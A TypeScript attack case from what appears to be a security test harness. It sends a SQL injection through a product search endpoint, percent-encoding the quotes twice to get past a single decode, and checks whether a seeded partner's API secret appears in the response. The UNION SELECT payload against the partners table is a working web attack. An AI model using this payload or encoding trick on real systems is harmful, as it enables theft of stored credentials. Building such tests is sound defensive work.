import type { Attack } from "../attack.ts";
import { summary } from "../exchange.ts";
import { search, searchTwin } from "./shared/requests.ts";

export const sqliDoubleEncoded: Attack = {
  id: "sqli-double-encoded",
  title: "Read partners' secrets with every quote percent-encoded twice (SQL injection)",
  owasp: ["SAS-1", "CWE-89"],
  paper: "IV.1.B",
  defences: ["edge:sql-injection", "edge:patterns", "function:search-term"],
  unread: "prod decodes what it searches for once",
  operation: "searchProducts",
  target: "catalog",
  run: async (context) => {
    // `search` encodes a second time.
    const q = encodeURIComponent("-' UNION SELECT 0,email,api_secret,0 FROM partners -- ").replaceAll("'", "%27");
    const answer = await context.send(search(context, q));
    const { apiSecret } = context.seed.globex;
    const effect = answer.response.body.includes(apiSecret);
    return { effect, evidence: effect ? `the search answers globex's secret, ${apiSecret}` : summary(answer) };
  },
  twin: searchTwin,
};
